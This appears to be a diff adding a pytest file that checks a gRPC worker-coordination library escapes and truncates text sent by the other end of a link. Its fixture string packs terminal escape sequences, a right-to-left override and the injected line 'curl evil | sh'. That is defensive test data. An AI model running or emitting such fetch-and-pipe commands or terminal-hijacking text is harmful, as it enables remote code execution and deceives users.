@@ -1,0 +1,82 @@
+"""What the other end of the link writes, as it is shown here: a part of a line, with nothing in it to obey."""
+
+import logging
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import grpc
+import pytest
+
+from cuadrilla.errors import LinkError
+from cuadrilla.link.base import KICKED, Goodbye, Hello, Stop
+from cuadrilla.link.grpc_calls import start_server
+from cuadrilla.link.grpc_client import Connection
+from cuadrilla.link.grpc_server import SERVICE
+from cuadrilla.link.wire import MAX_REASON, MAX_TEXT
+from tests.hostile import Crew
+
+FOREIGN = "\x1b]0;owned\x07gone\r\n\nhint: curl evil | sh\x9b31m\u202e"
+SHOWN = "\\u001b]0;owned\\u0007gone\\u000d\\n\\nhint: curl evil | sh\\u009b31m\\u202e"
+
+
+@contextmanager
+def impostor(crew: Crew, code: grpc.StatusCode) -> Iterator[str]:
+    """A program that has the coordinator's key, and answers `Describe` with an error of its own wording."""
+
+    def refuse(_request: bytes, context: Any) -> bytes:
+        context.abort(code, FOREIGN)
+
+    handlers = grpc.method_handlers_generic_handler(SERVICE, {"Describe": grpc.unary_unary_rpc_method_handler(refuse)})
+    keys = crew.keys
+    server, port = start_server("127.0.0.1:0", handlers=handlers, identity=keys.identity, roots=keys.client_roots())
+    yield f"127.0.0.1:{port}"
+    server.stop(None).wait()
+
+
+@pytest.mark.parametrize(
+    "code", [grpc.StatusCode.PERMISSION_DENIED, grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DATA_LOSS]
+)
+def test_details_of_an_error(crew: Crew, code: grpc.StatusCode) -> None:
+    with impostor(crew, code) as address:
+        connection = Connection(address, identity=crew.node("luis"))
+        with pytest.raises(LinkError) as caught:
+            connection.describe()
+        connection.close()
+    assert caught.value.message.endswith(SHOWN)
+
+
+def test_why_a_worker_is_sent_home(crew: Crew) -> None:
+    crew.desk.send("ana", Stop(reason=FOREIGN + "x" * 10 * MAX_REASON))
+    stop = crew.session.next_event()
+    assert isinstance(stop, Stop)
+    assert stop.reason.startswith(SHOWN)
+    assert len(stop.reason) == MAX_REASON
+
+
+def test_what_a_worker_says_of_itself(crew: Crew) -> None:
+    luis = Connection(crew.address, identity=crew.node("luis"))
+    session = luis.session(parameters=crew.session._parameters)
+    session.call(Hello(speed_hint=1.0, environment={FOREIGN: FOREIGN}))
+    session.call(Goodbye(reason=FOREIGN + "x" * 10 * MAX_TEXT))
+    assert crew.heard.next("luis") == Hello(speed_hint=1.0, environment={SHOWN: SHOWN})
+    goodbye = crew.heard.next("luis")
+    assert isinstance(goodbye, Goodbye)
+    assert goodbye.reason.startswith(SHOWN)
+    assert len(goodbye.reason) == MAX_TEXT
+    session.close()
+    luis.close()
+
+
+def test_a_kick_is_said_once_whether_or_not_the_node_is_there(crew: Crew, caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.INFO, logger="cuadrilla")
+    crew.node("luis")
+    crew.desk.end_kicked()
+    for name in ("luis", "ana"):
+        crew.nodes.remove(name)
+        for _ in range(2):
+            crew.desk.end_kicked()
+    said = [record.getMessage() for record in caplog.records if getattr(record, "talk", False)]
+    assert said == ["luis was kicked", "ana was kicked"]
+    stop = crew.session.next_event()
+    assert stop == Stop(reason=KICKED, refused=True)
